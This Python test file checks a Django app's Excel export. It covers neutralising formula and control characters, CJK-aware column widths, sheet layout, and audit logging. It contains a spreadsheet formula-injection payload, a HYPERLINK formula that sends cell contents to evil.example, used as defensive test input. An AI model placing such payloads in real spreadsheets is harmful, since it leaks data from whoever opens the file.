"""The one export path: every .xlsx luoshi writes is formatted the same way and cannot carry a
formula or a character that breaks the file, and every export is audited once."""

import datetime
import io

import pytest
from openpyxl import load_workbook

from luoshi.audit.models import AuditEvent
from luoshi.audit.services import serve_export
from luoshi.lib.xlsx import build_workbook, display_width, safe_text

LONG_UNIT = "海西州茫崖市文体旅游广电局文化市场综合行政执法大队第一中队"


def _sheet(content: bytes):
    return load_workbook(io.BytesIO(content)).worksheets[0]


def test_formula_and_control_characters_are_made_harmless():
    assert safe_text('=HYPERLINK("http://evil.example/?"&A1,"点击查看")').startswith("'=")
    for start in ("+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert safe_text(start) == "'" + start
    assert safe_text("x\x01y") == "x\ufffdy"
    assert safe_text("a\ud800b") == "a\ufffdb"
    assert safe_text("第一行\n第二行") == "第一行\n第二行"
    assert safe_text("张三") == "张三"


def test_display_width_counts_cjk_double():
    assert display_width("abc") == 3
    assert display_width("茫崖") == 4
    assert display_width("全角：１") == 8


def test_workbook_layout_and_values():
    rows = [
        [
            '=HYPERLINK("http://evil.example/","点击查看")',
            LONG_UNIT,
            42,
            datetime.date(2026, 12, 2),
        ],
        ["x\x01y", "短", 3.5, None],
    ]
    content = build_workbook(
        title="人员名单",
        headers=["姓名", "单位", "积分", "日期"],
        rows=rows,
        notes=["筛选条件：单位：茫崖市", "导出时间：2026-12-02 08:00"],
    )
    sheet = _sheet(content)
    assert sheet["A1"].value == "人员名单"
    assert sheet["A2"].value == "筛选条件：单位：茫崖市；导出时间：2026-12-02 08:00"
    assert [cell.value for cell in sheet[3]] == ["姓名", "单位", "积分", "日期"]
    assert all(cell.font.bold for cell in sheet[3])
    assert sheet.freeze_panes == "A4"
    assert sheet.auto_filter.ref == "A3:D5"
    assert sheet.print_title_rows == "$3:$3"
    assert sheet.sheet_properties.pageSetUpPr.fitToPage is True
    assert sheet.page_setup.fitToWidth == 1
    # A formula is text, shown with its apostrophe; a control character is replaced.
    assert sheet["A4"].data_type == "s"
    assert sheet["A4"].value.startswith("'=HYPERLINK(")
    assert sheet["A5"].value == "x\ufffdy"
    # Real numbers and dates, not text.
    assert sheet["C4"].value == 42 and sheet["C5"].value == 3.5
    assert sheet["D4"].value.date() == datetime.date(2026, 12, 2)
    assert sheet["D4"].is_date
    # Widths fitted to the content: the long unit name's column is far wider than the default.
    assert sheet.column_dimensions["B"].width >= display_width(LONG_UNIT)
    assert sheet.column_dimensions["B"].width > 13
    assert sheet.column_dimensions["C"].width < sheet.column_dimensions["B"].width


def test_wide_lists_print_landscape():
    headers = [f"列{n}" for n in range(9)]
    sheet = _sheet(build_workbook(title="宽表", headers=headers, rows=[list(range(9))]))
    assert sheet.page_setup.orientation == "landscape"
    sheet = _sheet(build_workbook(title="窄表", headers=headers[:3], rows=[[1, 2, 3]]))
    assert sheet.page_setup.orientation == "portrait"


@pytest.mark.django_db
def test_serve_export_writes_one_audit_event(world):
    before = AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT).count()
    response = serve_export(
        actor=world.office,
        object_type="org.person",
        title="人员名单",
        headers=["姓名"],
        rows=[["张三"], ["=1+1"]],
        filters=["单位：茫崖市（含下级）"],
    )
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in response["Content-Disposition"]
    events = AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT)
    assert events.count() == before + 1
    event = events.latest("pk")
    assert event.actor == world.office
    assert event.object_type == "org.person"
    assert "单位：茫崖市（含下级）" in event.note and "2 行" in event.note
    sheet = _sheet(response.content)
    assert sheet["A2"].value.startswith("筛选条件：单位：茫崖市（含下级）；导出时间：")
    assert sheet["A5"].value == "'=1+1"
